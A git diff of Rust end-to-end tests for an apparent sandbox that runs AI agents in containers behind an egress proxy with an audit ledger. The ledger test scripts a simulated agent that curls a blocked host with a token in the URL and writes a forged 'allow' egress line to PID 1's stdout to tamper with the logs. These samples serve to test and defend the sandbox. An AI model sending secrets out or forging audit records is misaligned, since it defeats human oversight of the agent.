@@ -160,6 +160,78 @@ fn a_one_off_command_runs_its_exit_code_propagates_and_nothing_is_left() {
 
 #[test]
 #[ignore = "e2e: needs Docker and the test images; run with `cargo test --workspace -- --ignored` (`bash .ci/run` sets them up)"]
+fn the_agents_command_is_its_containers_process_with_its_stdio_and_no_token_in_its_config() {
+    let _g = shared();
+    let sb = sandbox();
+    let slug = unique_slug("e2e-proc");
+    // Its parent is the container's init (an exec'd command's parent is outside the
+    // container: 0); stdin is piped through to its end; stderr stays stderr.
+    let mut child = bottle(&sb)
+        .args(["run", "e2e", "--slug", &slug, "--", "sh", "-c"])
+        .arg("cat; echo \"ppid=$PPID\"; echo to-stderr >&2; case \"$HTTPS_PROXY\" in *@*) exit 4;; esac")
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    {
+        use std::io::Write as _;
+        let mut stdin = child.stdin.take().unwrap();
+        stdin.write_all(b"line-one\nline-two\n").unwrap();
+    }
+    let out = child.wait_with_output().unwrap();
+    let (stdout, stderr) = (
+        String::from_utf8_lossy(&out.stdout),
+        String::from_utf8_lossy(&out.stderr),
+    );
+    assert_eq!(
+        out.status.code(),
+        Some(4),
+        "the proxy URL carries the hop token in the command's env\nstdout: {stdout}\nstderr: {stderr}"
+    );
+    assert!(
+        stdout.starts_with("line-one\nline-two\nppid=1\n"),
+        "{stdout}"
+    );
+    assert!(
+        stderr.contains("to-stderr") && !stdout.contains("to-stderr"),
+        "{stderr}"
+    );
+    assert_eq!(leftovers(&slug), "");
+
+    // The token is given with the go-ahead, never in the container's config.
+    let slug = unique_slug("e2e-proc-cfg");
+    let mut child = start_sleeping(&sb, &slug);
+    let agent = format!("bottle-agent-{slug}");
+    let entrypoint = docker(&["inspect", "-f", "{{json .Config.Entrypoint}}", &agent]);
+    assert!(
+        entrypoint.starts_with("[\"/.bottle/start\",\"agent\""),
+        "{entrypoint}"
+    );
+    let env = docker(&["inspect", "-f", "{{json .Config.Env}}", &agent]);
+    assert!(env.contains("HTTPS_PROXY=http://egress:"), "{env}");
+    assert!(!env.contains('@'), "no credential in the config: {env}");
+    let go = docker(&[
+        "exec",
+        &agent,
+        "sh",
+        "-c",
+        "test -e /.bottle/go/go && echo there || echo gone",
+    ]);
+    assert_eq!(go.trim(), "gone", "the go-ahead is read once, then removed");
+    assert!(
+        bottle(&sb)
+            .args(["stop", &slug])
+            .status()
+            .unwrap()
+            .success()
+    );
+    let _ = child.wait();
+    assert_eq!(leftovers(&slug), "");
+}
+
+#[test]
+#[ignore = "e2e: needs Docker and the test images; run with `cargo test --workspace -- --ignored` (`bash .ci/run` sets them up)"]
 fn keys_have_their_formats_and_modes_and_the_agent_cannot_read_them() {
     let _g = shared();
     let sb = sandbox();
@@ -347,6 +419,15 @@ fn start_sleeping(sb: &Sandbox, slug: &str) -> std::process::Child {
     start_agent_sleeping(sb, "e2e", slug)
 }
 
+/// Whether a process of the agent's command, its command line containing `needle`, runs in
+/// container `agent`. Until the go-ahead the container's process is bottle's start, whose
+/// command line names the command too: it does not count.
+pub fn command_runs(agent: &str, needle: &str) -> bool {
+    docker(&["top", agent])
+        .lines()
+        .any(|l| l.contains(needle) && !l.contains("/.bottle/start"))
+}
+
 /// Start `bottle run AGENT … -- sleep 300` in the background; returns once the agent's command
 /// runs (after the bundle's ready check: the agent's container starts before that).
 pub fn start_agent_sleeping(sb: &Sandbox, agent_name: &str, slug: &str) -> std::process::Child {
@@ -359,7 +440,7 @@ pub fn start_agent_sleeping(sb: &Sandbox, agent_name: &str, slug: &str) -> std::
         .unwrap();
     let agent = format!("bottle-agent-{slug}");
     let deadline = Instant::now() + Duration::from_secs(120);
-    while !docker(&["top", &agent]).contains("sleep 300") {
+    while !command_runs(&agent, "sleep 300") {
         assert!(
             Instant::now() < deadline,
             "the agent's command never started"
@@ -653,9 +734,8 @@ fn attach_through_a_real_pty_shows_output_and_passes_resizes() {
     let sb = sandbox();
     let slug = unique_slug("e2e-pty");
     let script = crate::support::workspace().join("tests/integration/pty_attach.py");
-    // The pause lets the initial resize land first: this engine speaks API 1.41, which cannot
-    // size an exec's TTY before its command starts (1.42+ can, and bottle then does).
-    let cmd = "sleep 1; stty size; echo READY; read x; stty size; echo SLEEPING; sleep 60";
+    // No pause: the container's TTY is sized before its command gets the go-ahead.
+    let cmd = "stty size; echo READY; read x; stty size; echo SLEEPING; sleep 60";
     let mut c = Command::new("python3");
     c.arg(script)
         .arg(crate::support::bottle_bin())
@@ -2409,7 +2489,7 @@ fn live_applies_under_load_never_fail_a_request() {
     let agent = format!("bottle-agent-{slug}");
     let deadline = Instant::now() + Duration::from_secs(120);
     // The agent's command, not just its container (which starts before the bundle is ready).
-    while !docker(&["top", &agent]).contains("/tmp/stop") {
+    while !command_runs(&agent, "/tmp/stop") {
         assert!(
             Instant::now() < deadline,
             "the agent's command never started"
@@ -2612,16 +2692,20 @@ fn a_run_leaves_a_sealed_ledger_that_names_any_change() {
         &sb,
         "e2e",
         &slug,
-        // The agent also writes a forged egress line to its container's log (PID 1's stdout is
-        // its own): it lands in the bottle's log as the agent's, never in the ledger.
+        // The agent also writes a forged egress line to its container's stdout (PID 1's is its
+        // own): it reaches the terminal only, never the bottle's log nor the ledger.
         "curl -s -o /dev/null https://blocked.test/secret-path?token=abc; \
          echo '[egress] {\"time\":\"2026-12-05T10:00:00Z\",\"method\":\"GET\",\"host\":\"forged.test\",\"path\":\"/\",\"decision\":\"allow\"}' > /proc/1/fd/1; true",
     );
     assert_eq!(code, 0, "{out}{err}");
     let log = std::fs::read_to_string(sb.state().join("logs").join(format!("{slug}.log"))).unwrap();
     assert!(
-        log.contains("agent | [egress]"),
-        "the forged line was written: {log}"
+        out.contains("forged.test"),
+        "the forged line was written: {out}"
+    );
+    assert!(
+        !log.contains("forged.test"),
+        "the agent's output is kept by no log: {log}"
     );
     let (code, shown, err) = run(bottle(&sb).args(["audit", "show", &slug, "--json"]));
     assert_eq!(code, 0, "{err}");
